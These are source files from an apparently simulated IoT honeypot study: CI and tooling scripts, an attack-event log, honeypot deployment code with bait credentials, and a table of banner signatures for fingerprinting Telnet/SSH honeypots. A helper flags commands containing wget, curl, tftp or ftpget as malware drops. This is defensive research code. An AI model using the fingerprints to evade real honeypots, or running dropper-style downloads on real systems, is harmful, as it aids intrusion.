python3 scripts/check_status_proto.py --unix "$OFH_STATUS_SOCK" --stop
wait "$LIVE_STUDY_PID"

# Distributed execution end-to-end (DESIGN.md §15): a coordinator driving
# three external ofh-worker processes over a unix socket, with the crash
# drill SIGKILLing one of them mid-job. The reports must diff byte-for-byte
# against the --workers 0 in-process serial reference, and the retry ledger
# must show the killed attempt was detected and requeued. Gating: a torn
# merge, a lost shard, or a drill that didn't fire all fail here.
echo "==> distributed fleet (ofh-coordinator + 3 ofh-worker, SIGKILL drill)"
./build-ci/tools/dist/ofh-coordinator --workers 0 \
  --out build-ci/dist-serial.txt
OFH_DIST_SOCK="build-ci/ofh-dist.sock"
for i in 1 2 3; do
  ./build-ci/tools/dist/ofh-worker --connect "$OFH_DIST_SOCK" \
    --name "ci-w$i" --connect-wait-ms 30000 &
done
./build-ci/tools/dist/ofh-coordinator --listen "$OFH_DIST_SOCK" \
  --workers 3 --fork 0 --wait 3 --kill-one \
  --out build-ci/dist-fleet.txt 2> build-ci/dist-fleet.log
wait || true  # one worker died by SIGKILL (by design); the rest exited 0
diff build-ci/dist-serial.txt build-ci/dist-fleet.txt
grep -q "requeued (worker-eof)" build-ci/dist-fleet.log

echo "==> [2/3] ASan+UBSan + -Werror"
cmake --preset ci-asan-ubsan
cmake --build --preset ci-asan-ubsan -j "$(nproc)"
# halt_on_error makes the first sanitizer report fail the test instead of
# being a log line someone has to notice.
export ASAN_OPTIONS="halt_on_error=1:strict_string_checks=1:detect_stack_use_after_return=1"
export UBSAN_OPTIONS="halt_on_error=1:print_stacktrace=1"
if [[ "$FAST" == "1" ]]; then
  ctest --test-dir build-ci-asan -L codec --output-on-failure -j "$(nproc)"
else
  ctest --test-dir build-ci-asan --output-on-failure -j "$(nproc)" -LE scenario

  # Chaos gate, corpus edition: the old chaos_report example's three
  # configurations live in tests/scenarios/ as regexp-pinned scenarios
  # (baseline_clean, flaky_network, chaos_degraded) and run here with the
  # sanitizers watching — conservation, accounting and fault budgets
  # included, since their expectations pin those exact report lines.
  echo "==> scenario corpus (ASan+UBSan, serial)"
  ctest --test-dir build-ci-asan --output-on-failure -L scenario

  # Parser fuzz: 500 seeded corpus mutations through parse + (every 25th
  # parsed mutant) the full pipeline. Hostile input must die as a typed
  # ScenarioError; any UB or OOB dies loudly here instead of in a user's
  # hand-edited scenario file.
  echo "==> scenario_fuzz (ASan+UBSan, 500 iterations, fixed seed)"
  ./build-ci-asan/tools/scenario/scenario_fuzz --seed=1 --iterations=500 \
    tests/scenarios/*.ofh
fi

echo "==> [3/3] TSan + -Werror (thread-labelled tests)"
cmake --preset ci-tsan
cmake --build --preset ci-tsan -j "$(nproc)"
# second_deadlock_stack gives both lock orders when TSan reports a
# lock-order inversion, not just the acquiring side.
export TSAN_OPTIONS="halt_on_error=1:second_deadlock_stack=1"
ctest --test-dir build-ci-tsan -L thread --output-on-failure -j "$(nproc)"

# The live endpoint again, this time with TSan watching the whole stack:
# 8 scan shards publishing progress, the server thread snapshotting, and
# two external clients (ofh-top + the conformance script) polling.
echo "==> live status endpoint under TSan"
OFH_TSAN_SOCK="build-ci-tsan/ofh-status.sock"
./build-ci-tsan/examples/live_study --unix "$OFH_TSAN_SOCK" --scale 16384 \
  --attack-scale 512 --days 1 --threads 8 --serve \
  > build-ci-tsan/live_study.log 2>&1 &
LIVE_TSAN_PID=$!
python3 scripts/check_status_proto.py --unix "$OFH_TSAN_SOCK" \
  --wait-ready 60
./build-ci-tsan/tools/ofh-top/ofh-top --unix "$OFH_TSAN_SOCK" --once --raw \
  | grep -q '^phase='
python3 scripts/check_status_proto.py --unix "$OFH_TSAN_SOCK" --stop
wait "$LIVE_TSAN_PID"

# The coordinator's poll loop under TSan, with exec'd (never forked)
# workers: fork and the TSan runtime don't mix, so the fleet here is three
# separate ofh-worker processes — each itself a TSan-instrumented study
# shard — and the coordinator listens instead of forking. The merged
# reports must still diff clean against the in-process serial reference.
echo "==> distributed coordinator under TSan (exec'd workers, 1 day)"
OFH_TSAN_DIST_SOCK="build-ci-tsan/ofh-dist.sock"
for i in 1 2 3; do
  ./build-ci-tsan/tools/dist/ofh-worker --connect "$OFH_TSAN_DIST_SOCK" \
    --name "tsan-w$i" --connect-wait-ms 120000 &
done
./build-ci-tsan/tools/dist/ofh-coordinator --listen "$OFH_TSAN_DIST_SOCK" \
  --workers 3 --fork 0 --wait 3 --days 1 \
  --out build-ci-tsan/dist-fleet.txt
wait || true
./build-ci-tsan/tools/dist/ofh-coordinator --workers 0 --days 1 \
  --out build-ci-tsan/dist-serial.txt
diff build-ci-tsan/dist-serial.txt build-ci-tsan/dist-fleet.txt

echo "==> CI green"
