#!/usr/bin/env bash
# Line-coverage gate: builds the `coverage` preset (gcc --coverage, -O0),
# runs the full test suite, and fails if line coverage of src/ drops below
# the floor. CI runs this; the floor was measured when the gate landed and
# should only ever move up.
#
# Usage: scripts/coverage.sh [floor-percent]
#
# Uses gcovr when installed; otherwise falls back to gcov's JSON output via
# scripts/gcov_summary.py (same numbers, fewer output formats).
set -euo pipefail
cd "$(dirname "$0")/.."

# Measured 94.8% when the gate landed; the margin absorbs small accounting
# differences between gcovr and the gcov fallback.
FLOOR="${1:-93.0}"

cmake --preset coverage
cmake --build --preset coverage -j "$(nproc)"
ctest --test-dir build-coverage --output-on-failure -j "$(nproc)"

echo "==> line coverage of src/ (floor: ${FLOOR}%)"
if command -v gcovr > /dev/null 2>&1; then
  gcovr --root . --filter 'src/' --object-directory build-coverage \
        --print-summary --fail-under-line "${FLOOR}"
else
  python3 scripts/gcov_summary.py --build-dir build-coverage --root . \
          --fail-under "${FLOOR}"
fi
