#!/usr/bin/env bash
# Convenience wrapper: run clang-tidy (repo-root .clang-tidy config) over all
# of src/ using a compile database. Generates the database with the default
# preset if none exists yet.
#
# Usage: scripts/run_tidy.sh [extra clang-tidy args...]
#   e.g. scripts/run_tidy.sh --fix
set -euo pipefail
cd "$(dirname "$0")/.."

if ! command -v clang-tidy >/dev/null 2>&1; then
  echo "error: clang-tidy not found on PATH." >&2
  echo "Install LLVM/clang tooling, then re-run. The build itself does not" >&2
  echo "need clang: gcc + the asan-ubsan preset covers the runtime checks." >&2
  exit 1
fi

# Prefer an existing compile database; otherwise configure the default preset.
DB_DIR=""
for d in build build-ci build-asan build-tidy; do
  if [[ -f "$d/compile_commands.json" ]]; then
    DB_DIR="$d"
    break
  fi
done
if [[ -z "$DB_DIR" ]]; then
  echo "==> No compile database found; configuring the 'default' preset"
  cmake --preset default >/dev/null
  DB_DIR=build
fi

mapfile -t FILES < <(find src -name '*.cpp' | sort)
echo "==> clang-tidy over ${#FILES[@]} files (database: $DB_DIR)"
if command -v run-clang-tidy >/dev/null 2>&1; then
  run-clang-tidy -p "$DB_DIR" -quiet "$@" "${FILES[@]}"
else
  clang-tidy -p "$DB_DIR" --quiet "$@" "${FILES[@]}"
fi
