#include "honeynet/signatures.h"

namespace ofh::honeynet {

const std::vector<HoneypotSignature>& honeypot_signatures() {
  using namespace std::string_literals;
  static const std::vector<HoneypotSignature> kSignatures = {
      {"HoneyPy", 23, "Debian GNU/Linux 7\r\nLogin: "s, 27},
      {"Cowrie", 23, "\xff\xfd\x1flogin: "s, 3'228},
      {"MTPot", 23,
       "\xff\xfb\x01\xff\xfb\x03\xff\xfd\x18\r\nlogin: "s, 194},
      {"TelnetIoT", 23,
       "\xff\xfd\x01Login: Password: \r\nWelcome to EmbyLinux "
       "3.13.0-24-generic\r\n #"s,
       211},
      {"Conpot", 23, "Connected to [00:13:EA:00:00:00]\r\n"s, 216},
      // The paper detects Kippo through its Telnet-port banner table; wild
      // Kippo deployments bound to the Telnet port serve this SSH banner.
      {"Kippo", 23, "SSH-2.0-OpenSSH_5.1p1 Debian-5\r\n"s, 47},
      {"Kako", 23, "BusyBox v1.19.3 (2013-11-01 10:10:26 CST)\r\n$ "s, 16},
      {"Hontel", 23, "BusyBox v1.18.4 (2012-04-17 18:58:31 CST)\r\n# "s, 12},
      {"Anglerfish", 23, "[root@LocalHost tmp]$ "s, 4'241},
  };
  return kSignatures;
}

}  // namespace ofh::honeynet
