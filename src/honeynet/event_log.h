// Attack-event log shared by the deployed honeypots. Every interaction with
// a honeypot is an event (honeypots have no production traffic); events are
// typed so the analysis layer can reproduce the paper's attack-type splits
// (Figures 4 and 7), daily series (Figure 8) and multistage chains (Fig 9).
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <utility>
#include <vector>

#include "proto/service.h"
#include "sim/time.h"
#include "util/ipv4.h"
#include "util/stats.h"

namespace ofh::honeynet {

enum class AttackType : std::uint8_t {
  kScan,            // probe / connection with no deeper interaction
  kDiscovery,       // CoAP /.well-known/core, SSDP M-SEARCH
  kBruteForce,      // repeated credential attempts
  kDictionary,      // credential attempts from known dictionaries
  kMalwareDrop,     // payload delivery (dropper command, FTP STOR, ...)
  kPoisoning,       // data modification (MQTT retained, registers, ...)
  kDos,             // flooding
  kExploit,         // Eternal*-style exploit attempt
  kWebScrape,       // bulk HTTP content fetching
  kMultistageStep,  // annotated later by the multistage detector
};

std::string_view attack_type_name(AttackType type);

struct AttackEvent {
  sim::Time when = 0;
  util::Ipv4Addr source;
  std::string honeypot;
  proto::Protocol protocol = proto::Protocol::kTelnet;
  AttackType type = AttackType::kScan;
  std::string detail;  // credentials, command, topic, malware hash, ...
};

class EventLog {
 public:
  // A (source, protocol) pair with no event for this long starts a new
  // trace session on its next event — the sessionization gap behind the
  // kSessionBegin/End trace events (obs/trace.h).
  static constexpr sim::Duration kSessionGap = sim::minutes(10);

  // Appends the event and bumps the honeynet.events obs counters (total and
  // per attack-type class); also emits the session begin/command/end trace
  // events that the attack-chain report reconstructs Figure 9 from. Defined
  // in event_log.cpp to keep the obs dependency out of this header.
  void record(AttackEvent event);

  // Reserve-ahead for bulk replay: callers that can bound the event volume
  // (core/study.cpp folds per-group logs into the study log) pre-size the
  // arena once so the fold never reallocates mid-merge.
  // tests/parallel_test.cpp asserts capacity stability across the merge.
  void reserve(std::size_t events) { events_.reserve(events); }
  std::size_t events_capacity() const { return events_.capacity(); }

  const std::vector<AttackEvent>& events() const { return events_; }
  std::size_t size() const { return events_.size(); }

  // Aggregations used by the report layer.
  util::Counter count_by_honeypot() const;
  util::Counter count_by_protocol() const;
  util::Counter count_by_type() const;
  util::Counter count_by_day() const;
  std::vector<util::Ipv4Addr> unique_sources() const;
  std::vector<util::Ipv4Addr> unique_sources_for(
      const std::string& honeypot) const;

 private:
  // Last event time per (source, protocol), for session-gap detection.
  std::map<std::pair<std::uint32_t, std::uint8_t>, sim::Time> last_seen_;
  std::vector<AttackEvent> events_;
};

}  // namespace ofh::honeynet
