// Static banner signatures of known Telnet/SSH honeypots (paper Table 6).
// Wild honeypot instances emit these banners; the fingerprinter (classify
// module) matches scan responses against the same table — as in the paper,
// where signatures were harvested by deploying each honeypot in the lab.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace ofh::honeynet {

struct HoneypotSignature {
  std::string_view name;
  std::uint16_t port;        // 23 for Telnet honeypots, 22 for Kippo (SSH)
  std::string banner;        // exact static greeting bytes
  std::uint64_t paper_count; // Table 6 detected instances
};

const std::vector<HoneypotSignature>& honeypot_signatures();

}  // namespace ofh::honeynet
