#include "honeynet/honeypot.h"

#include "devices/paper_stats.h"

namespace ofh::honeynet {

AttackType Honeypot::classify_login(util::Ipv4Addr src,
                                    const std::string& user,
                                    const std::string& pass) {
  const int attempts = ++login_attempts_[src.value()];
  for (const auto& row : devices::paper::table12()) {
    if (row.user == user && row.pass == pass) return AttackType::kDictionary;
  }
  return attempts >= 3 ? AttackType::kBruteForce : AttackType::kScan;
}

void WildHoneypot::on_attached() {
  // Low-interaction: send the static banner, echo nothing meaningful. The
  // banner is the fingerprintable artefact.
  const std::string banner = signature_.banner;
  tcp().listen(signature_.port, [banner](net::TcpConnection& conn) {
    conn.send_text(banner);
    conn.on_data = [](net::TcpConnection& conn,
                      std::span<const std::uint8_t>) {
      conn.send_text("\r\n");
    };
  });
}

}  // namespace ofh::honeynet
