#include "honeynet/event_log.h"

#include <algorithm>
#include <array>
#include <set>

#include "obs/metrics.h"
#include "obs/trace.h"

namespace ofh::honeynet {

namespace {

constexpr std::size_t kAttackTypes =
    static_cast<std::size_t>(AttackType::kMultistageStep) + 1;

// Event-class telemetry across every EventLog (one per honeynet deployment
// region). Domain::kSim: event streams are deterministic per shard.
struct EventMetrics {
  obs::Counter total = obs::counter("honeynet.events");
  std::array<obs::Counter, kAttackTypes> by_type;

  EventMetrics() {
    for (std::size_t i = 0; i < kAttackTypes; ++i) {
      by_type[i] = obs::counter(obs::labeled(
          "honeynet.events_by_type", "type",
          attack_type_name(static_cast<AttackType>(i))));
    }
  }
};

const EventMetrics& metrics() {
  static const EventMetrics m;
  return m;
}

}  // namespace

void EventLog::record(AttackEvent event) {
  metrics().total.inc();
  const auto type = static_cast<std::size_t>(event.type);
  if (type < kAttackTypes) metrics().by_type[type].inc();

  // Sessionize for the trace layer: honeypot protocols have no explicit
  // session teardown, so a (source, protocol) pair going quiet for the gap
  // ends its session; the end event is stamped at detection time (the next
  // event from that pair), keeping per-shard append order time-monotonic.
  const auto session_key = std::make_pair(
      event.source.value(), static_cast<std::uint8_t>(event.protocol));
  const std::uint64_t trace_id = obs::current_trace_id();
  const std::uint8_t protocol_code =
      static_cast<std::uint8_t>(event.protocol);
  const auto [it, first_contact] =
      last_seen_.try_emplace(session_key, event.when);
  if (first_contact) {
    obs::trace_event(obs::TraceEventType::kSessionBegin, event.when, trace_id,
                     event.source.value(), 0, 0, 0, protocol_code);
  } else {
    if (event.when - it->second > kSessionGap) {
      obs::trace_event(obs::TraceEventType::kSessionEnd, event.when, trace_id,
                       event.source.value(), 0, 0, 0, protocol_code);
      obs::trace_event(obs::TraceEventType::kSessionBegin, event.when,
                       trace_id, event.source.value(), 0, 0, 0,
                       protocol_code);
    }
    it->second = event.when;
  }
  obs::trace_event(obs::TraceEventType::kSessionCommand, event.when, trace_id,
                   event.source.value(), 0, 0,
                   static_cast<std::uint8_t>(event.type), protocol_code);

  events_.push_back(std::move(event));
}

std::string_view attack_type_name(AttackType type) {
  switch (type) {
    case AttackType::kScan: return "Scan";
    case AttackType::kDiscovery: return "Discovery";
    case AttackType::kBruteForce: return "Brute force";
    case AttackType::kDictionary: return "Dictionary";
    case AttackType::kMalwareDrop: return "Malware";
    case AttackType::kPoisoning: return "Poisoning";
    case AttackType::kDos: return "DoS";
    case AttackType::kExploit: return "Exploit";
    case AttackType::kWebScrape: return "Web scraping";
    case AttackType::kMultistageStep: return "Multistage";
  }
  return "?";
}

util::Counter EventLog::count_by_honeypot() const {
  util::Counter counter;
  for (const auto& event : events_) counter.add(event.honeypot);
  return counter;
}

util::Counter EventLog::count_by_protocol() const {
  util::Counter counter;
  for (const auto& event : events_) {
    counter.add(std::string(proto::protocol_name(event.protocol)));
  }
  return counter;
}

util::Counter EventLog::count_by_type() const {
  util::Counter counter;
  for (const auto& event : events_) {
    counter.add(std::string(attack_type_name(event.type)));
  }
  return counter;
}

util::Counter EventLog::count_by_day() const {
  util::Counter counter;
  for (const auto& event : events_) {
    char key[16];
    std::snprintf(key, sizeof(key), "day%02llu",
                  static_cast<unsigned long long>(sim::to_days(event.when)));
    counter.add(key);
  }
  return counter;
}

std::vector<util::Ipv4Addr> EventLog::unique_sources() const {
  std::set<util::Ipv4Addr> sources;
  for (const auto& event : events_) sources.insert(event.source);
  return {sources.begin(), sources.end()};
}

std::vector<util::Ipv4Addr> EventLog::unique_sources_for(
    const std::string& honeypot) const {
  std::set<util::Ipv4Addr> sources;
  for (const auto& event : events_) {
    if (event.honeypot == honeypot) sources.insert(event.source);
  }
  return {sources.begin(), sources.end()};
}

}  // namespace ofh::honeynet
