#include "honeynet/deployments.h"

#include "proto/amqp.h"
#include "proto/coap.h"
#include "proto/ftp.h"
#include "proto/http.h"
#include "proto/modbus.h"
#include "proto/mqtt.h"
#include "proto/s7.h"
#include "proto/smb.h"
#include "proto/ssdp.h"
#include "proto/ssh.h"
#include "proto/telnet.h"
#include "proto/xmpp.h"
#include "util/sha256.h"
#include "util/strings.h"

namespace ofh::honeynet {

namespace {

using proto::Protocol;

// Commands whose payload is a malware dropper one-liner.
bool is_dropper_command(const std::string& command) {
  return util::contains(command, "wget") || util::contains(command, "curl") ||
         util::contains(command, "tftp") || util::contains(command, "ftpget");
}

}  // namespace

// ------------------------------------------------------------------ HosTaGe

std::vector<Protocol> HosTaGe::protocols() const {
  return {Protocol::kTelnet, Protocol::kMqtt, Protocol::kAmqp,
          Protocol::kCoap,   Protocol::kSsh,  Protocol::kHttp,
          Protocol::kSmb};
}

void HosTaGe::on_attached() {
  // Telnet: Arduino-flavoured open console (low interaction).
  {
    proto::telnet::TelnetServerConfig config;
    config.auth = proto::AuthConfig::with("admin", "arduino");
    config.greeting = util::to_bytes("Arduino Yun (HosTaGe profile)\r\n");
    proto::telnet::TelnetEvents events;
    events.on_connect = [this](util::Ipv4Addr src) {
      record(AttackType::kScan, Protocol::kTelnet, src, "connect");
    };
    events.on_login_attempt = [this](util::Ipv4Addr src,
                                     const std::string& user,
                                     const std::string& pass, bool ok) {
      record(classify_login(src, user, pass), Protocol::kTelnet, src,
             user + ":" + pass + (ok ? " OK" : " FAIL"));
    };
    events.on_command = [this](util::Ipv4Addr src, const std::string& cmd) {
      record(is_dropper_command(cmd) ? AttackType::kMalwareDrop
                                     : AttackType::kScan,
             Protocol::kTelnet, src, cmd);
    };
    services_.push_back(std::make_unique<proto::telnet::TelnetServer>(
        std::move(config), std::move(events)));
  }
  // MQTT: open broker with Arduino sensor topics.
  {
    proto::mqtt::BrokerConfig config;
    config.auth = proto::AuthConfig::open();
    config.retained = {{"arduino/sensors/smoke", "0"},
                       {"arduino/sensors/temperature", "21.7"}};
    proto::mqtt::BrokerEvents events;
    events.on_connect = [this](util::Ipv4Addr src, proto::mqtt::ConnectCode) {
      record(AttackType::kScan, Protocol::kMqtt, src, "connect");
    };
    events.on_topic_access = [this](util::Ipv4Addr src,
                                    const std::string& topic, bool write) {
      record(write ? AttackType::kPoisoning : AttackType::kScan,
             Protocol::kMqtt, src, topic);
    };
    services_.push_back(
        std::make_unique<proto::mqtt::Broker>(std::move(config),
                                              std::move(events)));
  }
  // AMQP: open broker.
  {
    proto::amqp::AmqpBrokerConfig config;
    config.auth = proto::AuthConfig::open();
    config.queues = {{"sensor-readings", {"21.7", "21.9"}}};
    proto::amqp::AmqpEvents events;
    events.on_connect = [this](util::Ipv4Addr src) {
      record(AttackType::kScan, Protocol::kAmqp, src, "connect");
    };
    events.on_auth = [this](util::Ipv4Addr src, const std::string& mechanism,
                            bool ok) {
      record(AttackType::kScan, Protocol::kAmqp, src,
             mechanism + (ok ? " OK" : " FAIL"));
    };
    events.on_queue_access = [this](util::Ipv4Addr src,
                                    const std::string& queue, bool publish) {
      record(publish ? AttackType::kPoisoning : AttackType::kScan,
             Protocol::kAmqp, src, queue);
    };
    services_.push_back(std::make_unique<proto::amqp::AmqpBroker>(
        std::move(config), std::move(events)));
  }
  // CoAP: smoke-sensor profile, open.
  {
    proto::coap::CoapServerConfig config;
    config.open_access = true;
    config.resources = {
        {"sensors/smoke", "ucum:ppm", "0", true},
        {"sensors/temperature", "ucum:Cel", "21.7", true},
    };
    proto::coap::CoapEvents events;
    events.on_request = [this](util::Ipv4Addr src, const std::string& path,
                               proto::coap::Code code) {
      AttackType type = AttackType::kScan;
      if (path == "/.well-known/core") {
        type = AttackType::kDiscovery;
      } else if (code == proto::coap::Code::kChanged ||
                 code == proto::coap::Code::kDeleted) {
        type = AttackType::kPoisoning;
      }
      record(type, Protocol::kCoap, src, path);
    };
    services_.push_back(std::make_unique<proto::coap::CoapServer>(
        std::move(config), std::move(events)));
  }
  // SSH.
  {
    proto::ssh::SshServerConfig config;
    config.banner = "SSH-2.0-dropbear_2019.78";
    config.auth = proto::AuthConfig::with("root", "arduino");
    proto::ssh::SshEvents events;
    events.on_connect = [this](util::Ipv4Addr src) {
      record(AttackType::kScan, Protocol::kSsh, src, "connect");
    };
    events.on_auth = [this](util::Ipv4Addr src, const std::string& user,
                            const std::string& pass, bool ok) {
      record(classify_login(src, user, pass), Protocol::kSsh, src,
             user + ":" + pass + (ok ? " OK" : " FAIL"));
    };
    events.on_command = [this](util::Ipv4Addr src, const std::string& cmd) {
      record(is_dropper_command(cmd) ? AttackType::kMalwareDrop
                                     : AttackType::kScan,
             Protocol::kSsh, src, cmd);
    };
    services_.push_back(std::make_unique<proto::ssh::SshServer>(
        std::move(config), std::move(events)));
  }
  // HTTP device frontend.
  {
    proto::http::HttpServerConfig config;
    config.server_header = "Arduino WebServer";
    config.routes = {{"/", "<html><title>Arduino IoT Node</title></html>"}};
    config.has_login_form = true;
    config.auth = proto::AuthConfig::with("admin", "arduino");
    proto::http::HttpEvents events;
    events.on_request = [this](util::Ipv4Addr src,
                               const proto::http::Request& request) {
      record(request.path == "/" ? AttackType::kScan : AttackType::kWebScrape,
             Protocol::kHttp, src, request.method + " " + request.path);
    };
    events.on_login_attempt = [this](util::Ipv4Addr src,
                                     const std::string& user,
                                     const std::string& pass, bool ok) {
      record(classify_login(src, user, pass), Protocol::kHttp, src,
             user + ":" + pass + (ok ? " OK" : " FAIL"));
    };
    services_.push_back(std::make_unique<proto::http::HttpServer>(
        std::move(config), std::move(events)));
  }
  // SMB.
  {
    proto::smb::SmbServerConfig config;
    config.vulnerable_to_eternalblue = true;  // bait
    config.auth = proto::AuthConfig::with("admin", "arduino");
    proto::smb::SmbEvents events;
    events.on_connect = [this](util::Ipv4Addr src) {
      record(AttackType::kScan, Protocol::kSmb, src, "negotiate");
    };
    events.on_session_setup = [this](util::Ipv4Addr src,
                                     const std::string& user, bool ok) {
      record(classify_login(src, user, ""), Protocol::kSmb, src,
             user + (ok ? " OK" : " FAIL"));
    };
    events.on_exploit_attempt = [this](util::Ipv4Addr src,
                                       const util::Bytes& payload) {
      record(AttackType::kExploit, Protocol::kSmb, src,
             "trans2 " + util::Sha256::hex_digest(util::to_string(payload))
                             .substr(0, 16));
    };
    services_.push_back(std::make_unique<proto::smb::SmbServer>(
        std::move(config), std::move(events)));
  }
  for (auto& service : services_) service->install(*this);
}

// -------------------------------------------------------------------- U-Pot

std::vector<Protocol> UPot::protocols() const { return {Protocol::kUpnp}; }

void UPot::on_attached() {
  proto::ssdp::UpnpDeviceConfig config;
  config.friendly_name = "WeMo Switch";
  config.model_name = "Belkin Wemo smart switch";
  config.manufacturer = "Belkin International Inc.";
  config.server = "Unspecified, UPnP/1.0, Unspecified";
  config.respond_to_any = true;
  proto::ssdp::UpnpEvents events;
  events.on_search = [this](util::Ipv4Addr src, const std::string& st) {
    record(AttackType::kDiscovery, Protocol::kUpnp, src, st);
  };
  services_.push_back(std::make_unique<proto::ssdp::UpnpDevice>(
      std::move(config), std::move(events)));
  for (auto& service : services_) service->install(*this);
}

// ------------------------------------------------------------------- Conpot

std::vector<Protocol> Conpot::protocols() const {
  return {Protocol::kSsh, Protocol::kTelnet, Protocol::kS7, Protocol::kHttp,
          Protocol::kModbus};
}

void Conpot::on_attached() {
  // Telnet with Conpot's static banner (the same signature Table 6 lists —
  // our own deployment is fingerprintable too, as in the paper).
  {
    proto::telnet::TelnetServerConfig config;
    config.greeting = util::to_bytes("Connected to [00:13:EA:00:00:00]\r\n");
    config.auth = proto::AuthConfig::with("admin", "siemens");
    proto::telnet::TelnetEvents events;
    events.on_connect = [this](util::Ipv4Addr src) {
      record(AttackType::kScan, Protocol::kTelnet, src, "connect");
    };
    events.on_login_attempt = [this](util::Ipv4Addr src,
                                     const std::string& user,
                                     const std::string& pass, bool ok) {
      record(classify_login(src, user, pass), Protocol::kTelnet, src,
             user + ":" + pass + (ok ? " OK" : " FAIL"));
    };
    services_.push_back(std::make_unique<proto::telnet::TelnetServer>(
        std::move(config), std::move(events)));
  }
  // SSH.
  {
    proto::ssh::SshServerConfig config;
    config.banner = "SSH-2.0-OpenSSH_6.7p1 Debian-5+deb8u3";
    config.auth = proto::AuthConfig::with("admin", "siemens");
    proto::ssh::SshEvents events;
    events.on_connect = [this](util::Ipv4Addr src) {
      record(AttackType::kScan, Protocol::kSsh, src, "connect");
    };
    events.on_auth = [this](util::Ipv4Addr src, const std::string& user,
                            const std::string& pass, bool ok) {
      record(classify_login(src, user, pass), Protocol::kSsh, src,
             user + ":" + pass + (ok ? " OK" : " FAIL"));
    };
    services_.push_back(std::make_unique<proto::ssh::SshServer>(
        std::move(config), std::move(events)));
  }
  // S7 PLC with DoS-able job slots.
  {
    proto::s7::S7ServerConfig config;
    proto::s7::S7Events events;
    events.on_connect = [this](util::Ipv4Addr src) {
      record(AttackType::kScan, Protocol::kS7, src, "cotp connect");
    };
    events.on_pdu = [this](util::Ipv4Addr src, proto::s7::PduType type) {
      record(AttackType::kScan, Protocol::kS7, src,
             type == proto::s7::PduType::kJob ? "job" : "userdata");
    };
    events.on_dos_triggered = [this](util::Ipv4Addr src) {
      record(AttackType::kDos, Protocol::kS7, src, "ICSA-16-299-01 flood");
    };
    services_.push_back(std::make_unique<proto::s7::S7Server>(
        std::move(config), std::move(events)));
  }
  // Modbus register map.
  {
    proto::modbus::ModbusServerConfig config;
    proto::modbus::ModbusEvents events;
    events.on_request = [this](util::Ipv4Addr src, std::uint8_t function,
                               bool valid) {
      record(AttackType::kScan, Protocol::kModbus, src,
             "fc=" + std::to_string(function) + (valid ? "" : " invalid"));
    };
    events.on_register_write = [this](util::Ipv4Addr src,
                                      std::uint16_t address,
                                      std::uint16_t value) {
      record(AttackType::kPoisoning, Protocol::kModbus, src,
             "reg[" + std::to_string(address) + "]=" + std::to_string(value));
    };
    services_.push_back(std::make_unique<proto::modbus::ModbusServer>(
        std::move(config), std::move(events)));
  }
  // HTTP maintenance page.
  {
    proto::http::HttpServerConfig config;
    config.server_header = "Siemens, SIMATIC, S7-200";
    config.routes = {{"/", "<html><title>S7-200 Maintenance</title></html>"}};
    proto::http::HttpEvents events;
    events.on_request = [this](util::Ipv4Addr src,
                               const proto::http::Request& request) {
      record(request.path == "/" ? AttackType::kScan : AttackType::kWebScrape,
             Protocol::kHttp, src, request.method + " " + request.path);
    };
    services_.push_back(std::make_unique<proto::http::HttpServer>(
        std::move(config), std::move(events)));
  }
  for (auto& service : services_) service->install(*this);
}

// ----------------------------------------------------------------- ThingPot

std::vector<Protocol> ThingPot::protocols() const {
  return {Protocol::kXmpp};
}

void ThingPot::on_attached() {
  proto::xmpp::XmppServerConfig config;
  config.domain = "philips-hue.local";
  config.auth = proto::AuthConfig::with("hue", "bridge2015");
  config.auth.allow_anonymous = true;  // bait: anonymous logins accepted
  proto::xmpp::XmppEvents events;
  events.on_stream_open = [this](util::Ipv4Addr src) {
    record(AttackType::kScan, Protocol::kXmpp, src, "stream open");
  };
  events.on_auth = [this](util::Ipv4Addr src, const std::string& mechanism,
                          bool ok) {
    const AttackType type = mechanism == "ANONYMOUS"
                                ? AttackType::kScan
                                : classify_login(src, mechanism, "");
    record(type, Protocol::kXmpp, src, mechanism + (ok ? " OK" : " FAIL"));
  };
  events.on_message = [this](util::Ipv4Addr src, const std::string& to,
                             const std::string& body) {
    // Writes to the light state are poisoning attempts (§5.1.2: malware
    // examining its write privileges on the Hue lights).
    record(util::contains(to, "light") ? AttackType::kPoisoning
                                       : AttackType::kScan,
           Protocol::kXmpp, src, to + ": " + body);
  };
  services_.push_back(std::make_unique<proto::xmpp::XmppServer>(
      std::move(config), std::move(events)));
  for (auto& service : services_) service->install(*this);
}

// ------------------------------------------------------------------- Cowrie

std::vector<Protocol> Cowrie::protocols() const {
  return {Protocol::kSsh, Protocol::kTelnet};
}

void Cowrie::on_attached() {
  // Telnet with Cowrie's fingerprintable IAC greeting.
  {
    proto::telnet::TelnetServerConfig config;
    config.greeting = {0xff, 0xfd, 0x1f};  // IAC DO NAWS — the signature
    config.auth = proto::AuthConfig::with("root", "cowrie-secret");
    config.login_prompt = "login: ";
    proto::telnet::TelnetEvents events;
    events.on_connect = [this](util::Ipv4Addr src) {
      record(AttackType::kScan, Protocol::kTelnet, src, "connect");
    };
    events.on_login_attempt = [this](util::Ipv4Addr src,
                                     const std::string& user,
                                     const std::string& pass, bool ok) {
      record(classify_login(src, user, pass), Protocol::kTelnet, src,
             user + ":" + pass + (ok ? " OK" : " FAIL"));
    };
    events.on_command = [this](util::Ipv4Addr src, const std::string& cmd) {
      record(is_dropper_command(cmd) ? AttackType::kMalwareDrop
                                     : AttackType::kScan,
             Protocol::kTelnet, src, cmd);
    };
    services_.push_back(std::make_unique<proto::telnet::TelnetServer>(
        std::move(config), std::move(events)));
  }
  // SSH with an IoT-flavoured banner.
  {
    proto::ssh::SshServerConfig config;
    config.banner = "SSH-2.0-dropbear_2014.63";  // IoT device banner
    config.auth = proto::AuthConfig::with("root", "cowrie-secret");
    proto::ssh::SshEvents events;
    events.on_connect = [this](util::Ipv4Addr src) {
      record(AttackType::kScan, Protocol::kSsh, src, "connect");
    };
    events.on_auth = [this](util::Ipv4Addr src, const std::string& user,
                            const std::string& pass, bool ok) {
      record(classify_login(src, user, pass), Protocol::kSsh, src,
             user + ":" + pass + (ok ? " OK" : " FAIL"));
    };
    events.on_command = [this](util::Ipv4Addr src, const std::string& cmd) {
      record(is_dropper_command(cmd) ? AttackType::kMalwareDrop
                                     : AttackType::kScan,
             Protocol::kSsh, src, cmd);
    };
    services_.push_back(std::make_unique<proto::ssh::SshServer>(
        std::move(config), std::move(events)));
  }
  for (auto& service : services_) service->install(*this);
}

// ------------------------------------------------------------------ Dionaea

std::vector<Protocol> Dionaea::protocols() const {
